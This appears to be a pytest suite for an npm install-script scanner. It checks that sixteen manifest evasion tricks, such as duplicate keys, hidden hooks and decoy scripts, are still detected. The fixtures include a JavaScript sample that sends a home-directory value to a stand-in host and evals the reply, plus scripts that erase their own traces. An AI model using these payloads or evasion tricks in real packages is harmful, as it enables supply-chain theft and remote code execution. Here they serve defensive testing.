"""Evasions 1 to 16: a manifest that shows one thing and runs another. What npm runs is what is read."""

from __future__ import annotations

import json

import pytest

from safe_install.model import Event, LifecycleScript, Source
from safe_install.scan.reach.reach import trace
from safe_install.scan.unpack.scripts import lifecycle_scripts
from tests.builders import Files, a_manifest, a_script, an_artifact
from tests.builders import a_package as delivered
from tests.evasions.packages import (
    BY_SHELL,
    RUNS_HOOK,
    THEFT,
    Seen,
    a_package,
    archives,
    commands,
    holding,
    hooked,
    packages,
)
from tests.world import World

pytestmark = pytest.mark.semgrep

BUILDS = "{'targets': [{'target_name': 'a', 'sources': ['<!(node hidden.js)']}]}"
COMMIT = "79ac49eedf774dd4b0cfa308722bc463cfe5885c"


@archives(
    lower_case={"package.json": a_manifest(), "binding.gyp": BUILDS, "hidden.js": THEFT},
    upper_case={"package.json": a_manifest(), "Binding.GYP": BUILDS, "hidden.js": THEFT},
)
def test_a_binding_file_is_a_hook_that_no_manifest_declares(seen: Seen) -> None:
    """1: ``node-gyp rebuild`` is implied, whatever the file's case."""
    assert seen.commands == {"node-gyp rebuild"}
    assert seen.errors_in("hidden.js")


@packages(
    scripts_twice={
        "package.json": '{"name": "example", "scripts": {"postinstall": "echo"}, "scripts": {"postinstall": "node a"}}',
        "a.js": THEFT,
    },
    event_twice={
        "package.json": '{"name": "example", "scripts": {"postinstall": "echo", "postinstall": "node a"}}',
        "a.js": THEFT,
    },
)
def test_the_last_of_two_equal_keys_is_what_runs(seen: Seen) -> None:
    """2: JSON.parse takes the last; the decoy is not judged."""
    assert seen.commands == {"node a"}
    assert seen.errors_in("a.js")


@a_package({"package.json": "\ufeff" + a_manifest(scripts={"postinstall": "node a"}), "a.js": THEFT})
def test_a_byte_order_mark_hides_no_manifest(seen: Seen) -> None:
    """3: npm strips the mark and runs the hook."""
    assert seen.errors_in("a.js")


@packages(
    key={"package.json": r'{"name": "example", "scripts": {"post\u0069nstall": "node a"}}', "a.js": THEFT},
    value={"package.json": r'{"name": "example", "scripts": {"postinstall": "n\u006fde a"}}', "a.js": THEFT},
)
def test_escaped_letters_hide_no_hook(seen: Seen) -> None:
    """4: the manifest is parsed, and never searched."""
    assert seen.commands == {"node a"}
    assert seen.errors_in("a.js")


@commands(
    {"a.js": THEFT}, line="echo Thanks\nnode a", spaces=f"echo Thanks;{' ' * 400}node a", both="true\n\n\t node a"
)
def test_a_command_is_read_to_its_last_line(seen: Seen) -> None:
    """5: further lines and wide gaps are part of the command."""
    assert seen.errors_in("a.js")


@packages(
    posix=hooked("node $npm_package_config_step", {"a.js": THEFT}, config={"step": "a.js"}),
    braces=hooked("${npm_package_config_run}", {"a.js": THEFT}, config={"run": "node a.js"}),
    windows=hooked("%npm_package_config_run%", {"a.js": THEFT}, config={"run": "node a.js"}),
)
def test_a_command_in_the_config_is_followed(seen: Seen) -> None:
    """6: npm exports the manifest's config, so a command can stand there."""
    assert seen.errors_in("a.js")


@packages(
    before={
        "package.json": a_manifest(scripts={"install": "npm run build", "prebuild": "node a", "build": "echo"}),
        "a.js": THEFT,
    },
    after={
        "package.json": a_manifest(scripts={"install": "npm run -s build", "postbuild": "node a", "build": "echo"}),
        "a.js": THEFT,
    },
    twice={
        "package.json": a_manifest(scripts={"install": "npm run one", "one": "npm run two", "two": "node a"}),
        "a.js": THEFT,
    },
    exec=hooked("npm exec mine", {"a.js": f"#!/usr/bin/env node\n{THEFT}"}, bin={"mine": "a.js"}),
    npx=hooked("npx --no-install mine", {"a.js": f"#!/usr/bin/env node\n{THEFT}"}, bin={"mine": "a.js"}),
    explore=hooked("npm explore . -- node a", {"a.js": THEFT}),
)
def test_npm_is_followed_to_what_it_runs(seen: Seen) -> None:
    """7: scripts behind ``npm run`` come with the ones before and after them."""
    assert seen.errors_in("a.js")


@a_package(hooked("node ./tools", {"tools/package.json": '{"main": "../lib/a.dat"}', "lib/a.dat": THEFT}))
def test_a_directory_runs_what_its_own_manifest_names(seen: Seen) -> None:
    """8: a nested package.json decides what ``node DIRECTORY`` runs."""
    assert seen.errors_in("lib/a.dat")


@archives(
    hook={
        "package.json": a_manifest(bundleDependencies=["inner"]),
        "node_modules/inner/package.json": a_manifest("inner", scripts={"postinstall": "node a"}),
        "node_modules/inner/a.js": THEFT,
    },
)
def test_a_hook_of_a_package_carried_inside_is_told(seen: Seen) -> None:
    """8: npm 11 runs a bundled package's hooks."""
    assert seen.errors_in("a.js")


@archives(
    hook={
        "package.json": a_manifest(),
        "node_modules/inner/package.json": a_manifest("inner", scripts={"postinstall": "node a"}),
        "node_modules/inner/a.js": THEFT,
    },
)
def test_a_hook_of_a_package_that_nobody_declared_is_told(seen: Seen) -> None:
    """8: `npm rebuild` would run it."""
    assert "package/hidden-package" in seen.signatures


@archives(
    module={
        **hooked("node -e \"require('inner')\""),
        "node_modules/inner/package.json": a_manifest("inner"),
        "node_modules/inner/index.js": THEFT,
    },
)
def test_a_module_of_a_package_carried_inside_is_read(seen: Seen) -> None:
    """8: it is as near as a file."""
    assert seen.errors_in("node_modules/inner/index.js")


@pytest.mark.npm
def test_a_lockfile_that_denies_its_scripts_is_not_believed(world: World) -> None:
    """9: the delivered package.json decides, and not ``hasInstallScript``."""
    world.lock(world.registry.publish("quiet", "1.0.0", {"a.js": THEFT}, scripts={"postinstall": "node a"}))
    world.locked["node_modules/quiet"].pop("hasInstallScript", None)
    world.write_lock()
    assert world.run("scan", "--json").verdicts == {"quiet postinstall": "block"}


@packages(
    http={"package.json": a_manifest(dependencies={"ui-parts": "http://packages.example.invalid/ui-parts"})},
    https={"package.json": a_manifest(optionalDependencies={"ui-parts": "https://packages.example.invalid/a.tgz"})},
    git={"package.json": a_manifest(dependencies={"ui-parts": "git+ssh://git@forge.example.invalid/a/b.git"})},
    shorthand={"package.json": a_manifest(optionalDependencies={"setup": f"github:owner/name#{COMMIT}"})},
    bare={"package.json": a_manifest(dependencies={"setup": "owner/name"})},
    override={
        "package.json": a_manifest(overrides={"semver": {"lru-cache": "https://packages.example.invalid/a.tgz"}}),
    },
    discarded={
        "package.json": a_manifest(
            optionalDependencies={"setup": f"github:owner/name#{COMMIT}"}, scripts={"prepare": "node a && exit 1"}
        ),
        "a.js": THEFT,
    },
)
def test_a_dependency_that_no_registry_serves_is_told(seen: Seen) -> None:
    """10: what an address or a repository serves is no part of what was read."""
    assert seen.signatures & {"package/depends-by-address", "package/replaces-by-address"}


def test_a_git_dependency_is_prepared_as_npm_prepares_it() -> None:
    """11: its ``prepare`` and what else npm runs in a clone are scripts too."""
    manifest = {"package.json": a_manifest(scripts={"prepare": "node a", "postinstall": "node b", "test": "node c"})}
    package = delivered(manifest, an_artifact(source=Source.GIT))
    assert {one.event for one in lifecycle_scripts(package, npm_major=11)} == {Event.POSTINSTALL, Event.PREPARE}


@pytest.mark.npm
def test_a_git_dependency_in_a_lockfile_blocks(world: World) -> None:
    """11: a clone's own configuration is in force while npm prepares it, and nothing verifies the files."""
    world.lock()
    address = f"git+ssh://git@forge.example.invalid/owner/name.git#{COMMIT}"
    world.locked["node_modules/name"] = {"version": "1.0.0", "resolved": address}
    world.locked[""]["dependencies"] = {"name": "github:owner/name"}
    world.write("package.json", a_manifest("app", dependencies={"name": "github:owner/name"}))
    world.write_lock()
    said = world.run("scan", "--json")
    assert said.code == 11
    assert "lockfile/git-dependency" in {one["signature"] for one in said.report["findings"]}


FIRST_HALF = "require('fs').writeFileSync(require('path').join(require('os').homedir(), '.seat'), String(Date.now()))"
SECOND_HALF = """
const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');
const seat = fs.readFileSync(path.join(os.homedir(), '.seat'), 'utf8');
https.get('https://collect.example.invalid/?seat=' + seat, (answer) => {
  let text = ''; answer.on('data', (part) => { text += part; }); answer.on('end', () => eval(text));
});
"""


@a_package(holding({"install.js": SECOND_HALF}))
def test_the_half_that_acts_is_told_without_the_other(seen: Seen) -> None:
    """12: of a pair of packages, the one that runs what it is sent blocks by itself."""
    assert seen.blocked


@a_package(holding({"install.js": FIRST_HALF}))
def test_the_half_that_only_prepares_is_described(seen: Seen) -> None:
    """12: what it leaves outside its package is told, and keeps it from being skipped."""
    (verdict,) = seen.verdicts
    assert verdict["decision"] != "skip"
    assert verdict["behaviours"]["writes_outside"]


def test_a_poisoned_patch_is_another_script_than_the_clean_version() -> None:
    """12 and 48: an approval names contents, so an hour between two versions is enough."""
    clean, poisoned = (a_script("node a", {"a.js": text}) for text in ("require('./b')", f"require('./b');{THEFT}"))
    assert fingerprint(clean) != fingerprint(poisoned)


def test_a_changed_file_behind_the_hook_is_another_script() -> None:
    """12 and 48: nothing that is reached can change under an approval."""
    before, after = (a_script("node a", {"a.js": "require('./b')", "b.js": text}) for text in ("", THEFT))
    assert fingerprint(before) != fingerprint(after)


def fingerprint(script: LifecycleScript) -> str:
    return trace(script, {script.package.artifact.location: script.package}).fingerprint


@packages(
    **{
        name.replace("-", "_"): {"package.json": a_manifest(bin={name: "cli.js"}), "cli.js": "#!/usr/bin/env node\n"}
        for name in ("node", "npm", "npx", "git", "sh", "node-gyp", "python3")
    }
)
def test_a_bin_that_goes_by_a_builders_name_blocks(seen: Seen) -> None:
    """13: it would run in place of that program in every other package's scripts."""
    assert "package/bin-shadows-program" in seen.errors


@packages(
    deletes=holding({"install.js": "const fs = require('fs'); run(); fs.unlinkSync(__filename);"}),
    swaps=holding(
        {
            "install.js": "const fs = require('fs'); run(); fs.unlinkSync('package.json');"
            " fs.renameSync('package.md', 'package.json');",
            "package.md": a_manifest(),
        }
    ),
    by_shell=hooked("node a; rm -f a.js; mv pk.json package.json", {"a.js": "run()", "pk.json": a_manifest()}),
)
def test_a_script_that_puts_its_traces_away_is_told(seen: Seen) -> None:
    """14: the archive is what is judged, and clearing it up afterwards is a sign by itself."""
    assert "erases-itself" in seen.errors


@a_package(
    holding({"install.js": "console.log('Thanks for installing')", "index.js": THEFT}, **RUNS_HOOK, main="index.js")
)
def test_a_decoy_hook_vouches_for_nothing_but_itself(seen: Seen) -> None:
    """15: what only an import runs is not reached, and the report does not speak of it."""
    assert "install.js" in seen.reached
    assert "index.js" not in seen.reached


def test_a_report_says_that_imported_code_was_not_judged(world: World) -> None:
    """15: a reader is told in words where the inspection ends."""
    world.write("pkg/package.json", a_manifest(scripts={"postinstall": "node install.js"}))
    world.write("pkg/install.js", "require('fs').writeFileSync(__dirname + '/a', '')")
    said = world.run("scan", "pkg")
    assert "Import-time code was not judged" in " ".join(said.out.split())


@a_package(
    {
        "package.json": a_manifest(
            scripts={
                "preuninstall": "node a",
                "uninstall": "node a",
                "postuninstall": "node a",
                "postinstall": "node b",
            }
        ),
        "a.js": THEFT,
        "b.js": "console.log('Thanks')",
    }
)
def test_a_hook_that_npm_never_runs_is_no_script(seen: Seen) -> None:
    """16: npm 7 and later run nothing when a package goes; nobody is asked about it, and no other hook is lost."""
    assert seen.commands == {"node b"}
    assert seen.reached >= {"b.js"}
    assert "a.js" not in seen.reached
    assert not seen.flagged


BOTH: Files = {
    "package.json": json.dumps({"name": "example", "version": "1.0.0", "scripts": {"preinstall": BY_SHELL}}),
}


@a_package(BOTH)
def test_the_plain_command_blocks(seen: Seen) -> None:
    """The measure for all others: without any disguise, this blocks."""
    assert seen.blocked
